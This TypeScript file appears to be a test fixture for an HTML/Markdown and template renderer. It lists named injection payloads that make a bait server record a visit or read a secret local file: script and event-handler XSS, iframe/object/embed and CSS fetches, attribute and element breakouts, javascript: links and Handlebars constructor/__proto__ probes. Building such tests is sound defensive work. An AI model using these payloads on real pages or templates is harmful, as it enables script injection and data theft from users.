/** Texts with which an author, or whoever wrote what an author copied, might try to run, read or fetch something. */

export interface Bait {
  /** Address of a server that counts its visitors. */
  readonly server: string;
  /** Address of a file with a secret in it. */
  readonly file: string;
}

/** By name; each gets addresses to try, of its own, so that a visitor tells which way it came. */
export const waysOut: Readonly<Record<string, (bait: Bait) => string>> = {
  'a script': ({ server }) => `<script>document.title = 'ran'; fetch('${server}/script')</script>`,
  'a script from elsewhere': ({ server }) => `<script src="${server}/script.js"></script>`,
  'an event handler': ({ server }) => `<img src="x" onerror="document.title = 'ran'; fetch('${server}/onerror')">`,
  'an image': ({ server }) => `<img src="${server}/img.png"><picture><source srcset="${server}/set.png"></picture>`,
  'a file as an image': ({ file }) => `<img src="${file}" alt="">`,
  'a frame': ({ server, file }) =>
    `<iframe src="${server}/frame"></iframe><iframe src="${file}"></iframe><iframe srcdoc="<img src='${server}/doc'>"></iframe>`,
  'an object': ({ server, file }) =>
    `<object data="${server}/object"></object><object data="${file}" type="text/plain"></object>`,
  'an embedded thing': ({ server, file }) => `<embed src="${server}/embed"><embed src="${file}">`,
  'a drawing that uses another': ({ server }) =>
    `<svg onload="document.title = 'ran'"><use href="${server}/use.svg#a"/><image href="${server}/svg.png"/></svg>`,
  'an imported style': ({ server }) => `<style>@import url("${server}/import.css");</style>`,
  'a background': ({ server, file }) =>
    `<p style="background: url(${server}/background.png)">x</p><p style="background: url('${file}')">y</p>`,
  'a font': ({ server }) =>
    `<style>@font-face { font-family: F; src: url(${server}/font.woff2) } * { font-family: F }</style>`,
  'a style that leaves its place': ({ server }) =>
    `} </style><style> body { background: url(${server}/css.png) } a[title="`,
  'a style sheet': ({ server }) => `<link rel="stylesheet" href="${server}/link.css">`,
  'a prefetch': ({ server }) =>
    ['prefetch', 'preload" as="image', 'preconnect'].map((kind) => `<link rel="${kind}" href="${server}/p">`).join(''),
  'a refresh': ({ server }) => `<meta http-equiv="refresh" content="0;url=${server}/refresh">`,
  'another base': ({ server }) => `<base href="${server}/"><img src="relative.png">`,
  'a form': ({ server }) =>
    `<form action="${server}/form"><input autofocus onfocus="this.form.submit()"><input type="image" src="${server}/input.png"></form>`,
  'a socket': ({ server }) =>
    `<script>new WebSocket('${server.replace('http', 'ws')}/socket'); new EventSource('${server}/events')</script>`,
  'a film and a sound': ({ server }) =>
    `<video autoplay src="${server}/video.mp4" poster="${server}/poster.png"></video><audio autoplay src="${server}/a.mp3"></audio>`,
  'an attribute that is closed': ({ server }) =>
    `" onmouseover="fetch('${server}/attribute')" style="background:url(${server}/attr.png)" x='' autofocus onfocus='document.title="ran"'`,
  'an element that is closed': ({ server }) =>
    `</title></style></svg></p>--><img src="${server}/closed.png"><script>document.title = 'ran'</script>`,
  'letters written as numbers': ({ server }) =>
    `&lt;img src=${server}/lt.png&gt; &#60;script&#62;document.title='ran'&#60;/script&#62; &#x3c;img src=${server}/x.png&#x3e;`,
  'a Markdown image': ({ server }) => `![et billede](${server}/markdown.png) ![a][b]\n\n[b]: ${server}/reference.png`,
  'a Markdown image of a file': ({ file }) => `![et billede](${file})`,
  'a link that runs': ({ server }) =>
    `[klik](javascript:fetch('${server}/link')) [her](data:text/html,<script>1</script>) [der](vbscript:x)`,
  'the way to a constructor': () => '{{constructor}} {{constructor.constructor}} {{total.constructor}} {{toString}}',
  'the way to a prototype': () => '{{__proto__}} {{__proto__.polluted}} {{total.__proto__}} {{__lookupGetter__}}',
  'a helper that looks things up': () =>
    `{{lookup this "constructor"}} {{#with (lookup . "x")}}{{this}}{{/with}} {{log 1}}`,
  'three braces': ({ server }) => `{{{total}}} {{&total}} {{{raw "<img src=${server}/triple.png>"}}}`,
  'a part of a template': () =>
    '{{> parts/cover}} {{> (lookup . "x")}} {{#> layout}}{{/layout}} {{!-- --}} \\{{total}}',
};
